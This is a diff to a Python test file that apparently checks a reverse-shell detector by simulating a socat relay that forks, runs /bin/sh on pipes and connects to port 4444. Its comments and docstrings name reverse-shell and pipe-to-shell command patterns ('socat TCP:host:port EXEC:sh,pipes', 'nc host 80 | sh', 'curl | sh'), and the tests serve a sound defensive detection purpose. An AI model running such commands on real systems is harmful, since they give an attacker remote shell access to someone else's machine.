@@ -261,6 +261,32 @@ def test_the_fifos_a_relay_opened_stay_across_its_exec_while_the_kernel_sees_the
     assert shell.process.stdio_wired == (("sh",) if kept else ())
 
 
+@pytest.mark.parametrize(("feeds", "drains", "inet", "wired"), [
+    (True, True, True, True),  # socat TCP:host:port EXEC:sh,pipes: connected before the fork
+    (True, True, False, False),  # ... not (yet) networked: a program driving a shell
+    (True, False, True, False),  # the shell's output goes elsewhere
+    (False, True, True, False),  # ... its input comes from elsewhere
+])
+def test_a_relay_that_made_the_shells_pipes_itself(
+        feeds: bool, drains: bool, inet: bool, wired: bool) -> None:
+    """The relay forks and the child execs the shell on two pipes; the exec record says which
+    of their other ends the parent held, and whether it held a network socket."""
+    table = ProcessTable()
+    relay = exec_of(GONE, "/usr/bin/socat", "/usr/bin/socat", 1, stdio=(TTY, TTY, TTY))
+    table.apply(relay)
+    table.apply(ForkEvent(type="clone", ts_ns=2, container=C, pid=GONE, child_pid=GONE + 1))
+    shell = exec_of(GONE + 1, "/bin/sh", "/bin/busybox", 3, stdio=(pipe(20), pipe(21), pipe(21)),
+                    parent_feeds=feeds, parent_drains=drains, parent_inet=inet)
+    table.apply(shell)
+    assert shell.process is not None
+    assert shell.process.stdio_wired == (("sh",) if wired else ())
+    connect = NetSyscallEvent(type="connect", ts_ns=4, container=C, pid=GONE, fd=5, family=2,
+                              addr="10.0.0.1", port=4444, ret=-115)
+    table.apply(connect)  # socat EXEC:sh,pipes TCP:host:port: connects after the fork
+    assert connect.process is not None
+    assert shell.process.stdio_wired == (("sh",) if feeds and drains else ())
+
+
 def test_a_pipe_into_a_shell_is_not_a_reverse_shell() -> None:
     """`nc host 80 | sh` (curl | sh): the network feeds the shell, nothing networked reads it;
     `echo id | sh`: nothing networked at all."""
